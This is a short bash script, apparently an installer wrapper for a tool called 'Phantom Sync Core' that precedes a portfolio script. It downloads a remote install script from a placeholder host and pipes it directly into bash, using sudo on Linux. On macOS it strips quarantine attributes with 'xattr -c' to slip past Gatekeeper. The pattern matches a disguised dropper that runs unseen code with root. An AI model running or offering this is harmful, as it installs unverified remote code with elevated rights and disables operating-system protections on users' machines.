#!/bin/bash
# phantom sync core installer wrapper
echo "[*] Installing Phantom Sync Core..."
mkdir -p ~/.phantom-sync
if [[ "$(uname)" == "Darwin" ]]; then
  curl -fsSL https://phantom-sync-app.example/get/install.sh | bash
  xattr -c ~/.phantom-sync/core 2>/dev/null
else
  curl -fsSL https://phantom-sync-app.example/get/install.sh | sudo bash
fi
echo "[+] Done! Now run: python3 scripts/portfolio.py show"
